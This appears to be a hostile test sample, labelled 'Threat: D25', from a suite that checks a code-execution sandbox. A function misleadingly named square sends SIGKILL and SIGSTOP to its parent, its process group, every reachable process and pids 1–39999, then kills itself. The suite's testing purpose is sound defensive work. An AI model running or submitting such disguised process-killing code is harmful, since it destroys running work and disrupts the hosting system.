"""Kills, stops and interrupts its parent, its group, every process it can name, and itself.

Threat: D25.
"""

import os
import signal


def square(x):
    names = [int(name) for name in range(1, 40000)]
    for number in (signal.SIGKILL, signal.SIGSTOP):
        for pid in [os.getppid(), 0, -1, *names]:
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, number)
            except OSError:
                pass
    signal.raise_signal(signal.SIGKILL)
